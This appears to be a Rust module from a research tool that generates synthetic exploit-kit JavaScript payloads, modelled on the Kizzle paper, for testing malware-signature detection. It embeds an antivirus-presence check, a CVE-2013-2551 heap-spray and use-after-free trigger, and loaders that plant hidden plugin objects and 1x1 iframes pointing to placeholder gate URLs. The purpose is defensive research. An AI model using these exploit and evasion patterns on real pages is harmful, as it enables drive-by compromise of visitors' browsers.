@@ -1,0 +1,374 @@
+//! The inner, unpacked payload of an exploit kit.
+//!
+//! The payload is the slowly-changing core of the "onion" (paper §II-A):
+//! plug-in and AV detection, one exploit block per CVE, and an eval trigger.
+//! Packers wrap this payload in a fast-changing obfuscation layer; Kizzle's
+//! labeling stage works on the *unpacked* payload because it barely changes
+//! between variants (Fig. 11).
+//!
+//! Three properties of real kits are reproduced deliberately:
+//!
+//! * **Cross-kit code reuse** — the AV-presence check
+//!   ([`AV_CHECK_SNIPPET`]) and the CVE-2013-2551 Internet Explorer exploit
+//!   ([`IE_EXPLOIT_SNIPPET`]) are byte-identical across every family that
+//!   carries them, modeling the borrowing the paper documents (RIG's AV
+//!   check appearing in Nuclear in August).
+//! * **Benign lookalikes** — kits embed a large plug-in-probing library
+//!   ([`PLUGIN_DETECT_LIB`]) lifted from the legitimate `PluginDetect`
+//!   ecosystem; benign pages embed the same library, which is exactly the
+//!   false positive of the paper's Fig. 15.
+//! * **Kit-specific churn** — RIG embeds its (daily-rotating) landing URLs
+//!   directly in the payload body, which is why its unpacked similarity is
+//!   so much noisier than the other kits in Fig. 11(d).
+
+use crate::evolution::KitState;
+use crate::family::{Component, Cve, KitFamily};
+
+/// The AV-presence check shared verbatim between kits (paper §II: "three of
+/// the exploit kits used the exact same code to check for certain system
+/// files belonging to AV solutions").
+pub const AV_CHECK_SNIPPET: &str = r#"
+function checkSecuritySoftware() {
+  var avMarkers = ["c:\\windows\\system32\\drivers\\kl1.sys",
+                   "c:\\windows\\system32\\drivers\\tmactmon.sys",
+                   "c:\\windows\\system32\\drivers\\avgidsha.sys",
+                   "c:\\windows\\system32\\drivers\\bdfwfpf.sys"];
+  for (var ai = 0; ai < avMarkers.length; ai++) {
+    try {
+      var xm = new ActiveXObject("Microsoft.XMLDOM");
+      xm.async = false;
+      if (xm.loadXML("<r res='" + avMarkers[ai] + "'></r>")) {
+        if (xm.parseError.errorCode != 0) { continue; }
+        return true;
+      }
+    } catch (averr) { }
+  }
+  return false;
+}
+"#;
+
+/// The CVE-2013-2551 Internet Explorer exploit block shared by all four
+/// kits (Fig. 2 shows every kit carrying this CVE; the paper notes kits
+/// borrow exploits from each other quickly).
+pub const IE_EXPLOIT_SNIPPET: &str = r#"
+function triggerVmlUseAfterFree() {
+  var heapBlocks = new Array();
+  var fill = unescape("%u0c0c%u0c0c");
+  while (fill.length < 0x1000) { fill += fill; }
+  for (var hb = 0; hb < 512; hb++) {
+    heapBlocks[hb] = fill.substring(0, 0x800 - 6) + "" + hb;
+  }
+  var vml = document.createElement("vml:rect");
+  vml.style.behavior = "url(#default#VML)";
+  try { vml.fillcolor.value = heapBlocks[256]; } catch (uaf) { }
+  return heapBlocks.length;
+}
+"#;
+
+/// A condensed `PluginDetect`-style probing library. Kits embed it to decide
+/// which exploit to deliver; benign pages embed it to decide which video
+/// player to load. Its presence on both sides is the source of the paper's
+/// representative false positive (Fig. 15, 79% overlap with Nuclear).
+pub const PLUGIN_DETECT_LIB: &str = r#"
+var PluginProbe = {
+  rgx: { any: /function|object/, num: /number/, arr: /Array/, str: /String/ },
+  hasOwn: function(obj, prop) { return Object.prototype.hasOwnProperty.call(obj, prop); },
+  toString: ({}).constructor.prototype.toString,
+  isPlainObject: function(c) {
+    var a = this, b;
+    if (!c || a.rgx.any.test(a.toString.call(c)) || c.window == c ||
+        a.rgx.num.test(a.toString.call(c.nodeType))) { return 0; }
+    try {
+      if (!a.hasOwn(c, "constructor") &&
+          !a.hasOwn(c.constructor.prototype, "isPrototypeOf")) { return 0; }
+    } catch (b) { return 0; }
+    return 1;
+  },
+  isDefined: function(b) { return typeof b != "undefined"; },
+  isArray: function(b) { return this.rgx.arr.test(this.toString.call(b)); },
+  isString: function(b) { return this.rgx.str.test(this.toString.call(b)); },
+  isNum: function(b) { return this.rgx.num.test(this.toString.call(b)); },
+  getVersion: function(name) {
+    var plugins = navigator.plugins, mimes = navigator.mimeTypes, found = "";
+    for (var pi = 0; pi < plugins.length; pi++) {
+      if (plugins[pi].name.indexOf(name) >= 0) { found = plugins[pi].description; }
+    }
+    if (!found && window.ActiveXObject) {
+      try { found = new ActiveXObject(name + ".1").GetVariable("$version"); } catch (e) { }
+    }
+    return found;
+  }
+};
+"#;
+
+/// The miniature plug-in probe RIG ships instead of the full library: RIG's
+/// unpacked body is short, which is why its daily campaign data dominates
+/// its day-over-day similarity (paper Fig. 11(d)).
+pub const RIG_MINI_PROBE: &str = r#"
+var PluginProbe = {
+  getVersion: function(name) {
+    var plugins = navigator.plugins, found = "";
+    for (var pi = 0; pi < plugins.length; pi++) {
+      if (plugins[pi].name.indexOf(name) >= 0) { found = plugins[pi].description; }
+    }
+    return found;
+  }
+};
+"#;
+
+/// The concrete string Angler's Java exploit is keyed on: before August 13
+/// it appeared in plain HTML (and commercial AV matched on it); afterwards
+/// it only exists inside the packed body (paper Example 1 / Fig. 6).
+pub const ANGLER_JAVA_MARKER: &str = "jnlp_embedded_applet_cve_2013_0422_dropper";
+
+/// Build the unpacked payload JavaScript for a kit in a given state.
+///
+/// `urls` are the landing/redirect URLs embedded into the payload; RIG
+/// embeds several (they rotate daily), the other kits one.
+#[must_use]
+pub fn build_payload(state: &KitState, urls: &[String]) -> String {
+    let mut out = String::with_capacity(8 * 1024);
+    out.push_str(&format!(
+        "// {} gate r{}\n",
+        state.family.short_code().to_ascii_lowercase(),
+        state.packer_revision
+    ));
+    if state.family == KitFamily::Rig {
+        out.push_str(RIG_MINI_PROBE);
+    } else {
+        out.push_str(PLUGIN_DETECT_LIB);
+    }
+
+    // Embedded URLs: RIG's payload is short and URL-heavy, which is what
+    // makes its unpacked similarity churn in Fig. 11(d).
+    let url_count = if state.family == KitFamily::Rig { urls.len() } else { urls.len().min(1) };
+    out.push_str("var gateUrls = [");
+    for url in urls.iter().take(url_count.max(1)) {
+        out.push_str(&format!("\"{url}\", "));
+    }
+    out.push_str("];\n");
+
+    if state.family == KitFamily::Rig {
+        // RIG embeds a rotating campaign-configuration blob alongside its
+        // gate URLs; because the rest of the body is short, this daily
+        // churn is what drags its unpacked self-similarity down to the
+        // ~50% range of the paper's Fig. 11(d).
+        let mut blob = String::new();
+        let mut round = 0usize;
+        while blob.len() < 2200 {
+            for url in urls {
+                blob.push_str(&format!("{round}|{url}|"));
+            }
+            round += 1;
+        }
+        out.push_str(&format!("var campaignConfig = \"{blob}\";\n"));
+    }
+
+    if state.av_check {
+        out.push_str(AV_CHECK_SNIPPET);
+    }
+
+    for cve in &state.cves {
+        out.push_str(&exploit_block(state.family, cve));
+    }
+
+    out.push_str(&dispatcher(state));
+    out
+}
+
+/// The exploit block for one CVE. The IE exploit is shared verbatim across
+/// families; the rest are family-flavored but stable over time.
+#[must_use]
+pub fn exploit_block(family: KitFamily, cve: &Cve) -> String {
+    if cve.id == "CVE-2013-2551" {
+        return format!(
+            "{}\nfunction run_{}() {{ return triggerVmlUseAfterFree(); }}\n",
+            IE_EXPLOIT_SNIPPET,
+            cve.slug()
+        );
+    }
+    let probe = match cve.component {
+        Component::Flash => "PluginProbe.getVersion(\"Shockwave Flash\")",
+        Component::Silverlight => "PluginProbe.getVersion(\"Silverlight\")",
+        Component::Java => "PluginProbe.getVersion(\"Java\")",
+        Component::AdobeReader => "PluginProbe.getVersion(\"Adobe Acrobat\")",
+        Component::InternetExplorer => "navigator.userAgent",
+    };
+    let family_tag = family.short_code().to_ascii_lowercase();
+    let marker = if family == KitFamily::Angler && cve.component == Component::Java {
+        format!("  var marker = \"{ANGLER_JAVA_MARKER}\";\n")
+    } else {
+        String::new()
+    };
+    let loader = match cve.component {
+        Component::Flash => {
+            "  var obj = document.createElement(\"object\");\n  obj.setAttribute(\"type\", \"application/x-shockwave-flash\");\n  obj.setAttribute(\"data\", gateUrls[0] + \"&sw=1\");\n  document.body.appendChild(obj);\n"
+        }
+        Component::Silverlight => {
+            "  var obj = document.createElement(\"object\");\n  obj.setAttribute(\"type\", \"application/x-silverlight-2\");\n  obj.setAttribute(\"data\", gateUrls[0] + \"&sl=1\");\n  document.body.appendChild(obj);\n"
+        }
+        Component::Java => {
+            "  var app = document.createElement(\"applet\");\n  app.setAttribute(\"archive\", gateUrls[0] + \"&jar=1\");\n  app.setAttribute(\"code\", marker || \"loader.class\");\n  document.body.appendChild(app);\n"
+        }
+        Component::AdobeReader => {
+            "  var ifr = document.createElement(\"iframe\");\n  ifr.setAttribute(\"src\", gateUrls[0] + \"&pdf=1\");\n  ifr.setAttribute(\"width\", \"1\");\n  ifr.setAttribute(\"height\", \"1\");\n  document.body.appendChild(ifr);\n"
+        }
+        Component::InternetExplorer => "  triggerVmlUseAfterFree();\n",
+    };
+    format!(
+        "function run_{tag}_{slug}() {{\n  var ver = {probe};\n{marker}  if (!ver) {{ return false; }}\n{loader}  return true;\n}}\n",
+        tag = family_tag,
+        slug = cve.slug(),
+        probe = probe,
+        marker = marker,
+        loader = loader,
+    )
+}
+
+/// The dispatcher + eval trigger that runs the exploit chain.
+fn dispatcher(state: &KitState) -> String {
+    let mut out = String::new();
+    let family_tag = state.family.short_code().to_ascii_lowercase();
+    out.push_str(&format!("function launch_{family_tag}() {{\n"));
+    if state.av_check {
+        out.push_str("  if (checkSecuritySoftware()) { return; }\n");
+    }
+    for cve in &state.cves {
+        let name = if cve.id == "CVE-2013-2551" {
+            format!("run_{}", cve.slug())
+        } else {
+            format!("run_{family_tag}_{}", cve.slug())
+        };
+        out.push_str(&format!("  try {{ {name}(); }} catch (ex) {{ }}\n"));
+    }
+    out.push_str("}\n");
+    out.push_str(&format!(
+        "window.setTimeout(function() {{ launch_{family_tag}(); }}, 100);\n"
+    ));
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::date::SimDate;
+    use crate::evolution::KitState;
+
+    fn urls() -> Vec<String> {
+        vec![
+            "http://gate.example/a.php?id=1".to_string(),
+            "http://gate.example/b.php?id=2".to_string(),
+        ]
+    }
+
+    #[test]
+    fn payload_contains_one_block_per_cve() {
+        let state = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 1));
+        let js = build_payload(&state, &urls());
+        for cve in &state.cves {
+            assert!(js.contains(&cve.slug()), "missing {}", cve.id);
+        }
+    }
+
+    #[test]
+    fn av_check_only_when_state_says_so() {
+        let nuclear_before = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 7, 1));
+        let nuclear_after = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 1));
+        assert!(!build_payload(&nuclear_before, &urls()).contains("checkSecuritySoftware"));
+        assert!(build_payload(&nuclear_after, &urls()).contains("checkSecuritySoftware"));
+    }
+
+    #[test]
+    fn borrowed_av_check_is_byte_identical_across_kits() {
+        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 20));
+        let nuclear = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 20));
+        let rig_js = build_payload(&rig, &urls());
+        let nuclear_js = build_payload(&nuclear, &urls());
+        assert!(rig_js.contains(AV_CHECK_SNIPPET));
+        assert!(nuclear_js.contains(AV_CHECK_SNIPPET));
+    }
+
+    #[test]
+    fn ie_exploit_is_shared_verbatim_by_all_kits() {
+        for family in KitFamily::ALL {
+            let state = KitState::on_date(family, SimDate::new(2014, 8, 15));
+            let js = build_payload(&state, &urls());
+            assert!(js.contains("triggerVmlUseAfterFree"), "{family}");
+        }
+    }
+
+    #[test]
+    fn plugin_detect_lib_is_embedded_in_every_kit_except_rig() {
+        for family in KitFamily::ALL {
+            let state = KitState::on_date(family, SimDate::new(2014, 8, 15));
+            let js = build_payload(&state, &urls());
+            if family == KitFamily::Rig {
+                assert!(!js.contains("isPlainObject"), "{family}");
+                assert!(js.contains("campaignConfig"), "{family}");
+            } else {
+                assert!(js.contains("isPlainObject"), "{family}");
+                assert!(!js.contains("campaignConfig"), "{family}");
+            }
+            // Every payload still exposes the PluginProbe interface its
+            // exploit blocks call into.
+            assert!(js.contains("PluginProbe"), "{family}");
+        }
+    }
+
+    #[test]
+    fn angler_payload_carries_the_java_marker() {
+        let state = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 20));
+        let js = build_payload(&state, &urls());
+        assert!(js.contains(ANGLER_JAVA_MARKER));
+        // Other kits never carry Angler's marker.
+        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 20));
+        assert!(!build_payload(&rig, &urls()).contains(ANGLER_JAVA_MARKER));
+    }
+
+    #[test]
+    fn rig_embeds_all_urls_others_only_one() {
+        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 5));
+        let js = build_payload(&rig, &urls());
+        assert!(js.contains("a.php?id=1") && js.contains("b.php?id=2"));
+        let angler = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 5));
+        let js = build_payload(&angler, &urls());
+        assert!(js.contains("a.php?id=1") && !js.contains("b.php?id=2"));
+    }
+
+    #[test]
+    fn payload_is_append_only_over_time() {
+        // The August 27 CVE append grows the payload without removing code.
+        let before = build_payload(
+            &KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 26)),
+            &urls(),
+        );
+        let after = build_payload(
+            &KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 27)),
+            &urls(),
+        );
+        assert!(after.len() > before.len());
+        assert!(after.contains("cve_2013_0074"));
+        assert!(!before.contains("cve_2013_0074"));
+    }
+
+    #[test]
+    fn payload_is_deterministic_for_fixed_inputs() {
+        let state = KitState::on_date(KitFamily::SweetOrange, SimDate::new(2014, 8, 10));
+        assert_eq!(build_payload(&state, &urls()), build_payload(&state, &urls()));
+    }
+
+    #[test]
+    fn payload_lexes_cleanly() {
+        let state = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 30));
+        let js = build_payload(&state, &urls());
+        let stream = kizzle_js_smoke(&js);
+        assert!(stream > 300, "payload should be token-rich, got {stream}");
+    }
+
+    /// Tiny local tokenizer smoke check (kizzle-js is not a dependency of
+    /// this crate; the real tokenization round-trip is covered by
+    /// integration tests at the workspace level).
+    fn kizzle_js_smoke(js: &str) -> usize {
+        js.split_whitespace().count()
+    }
+}
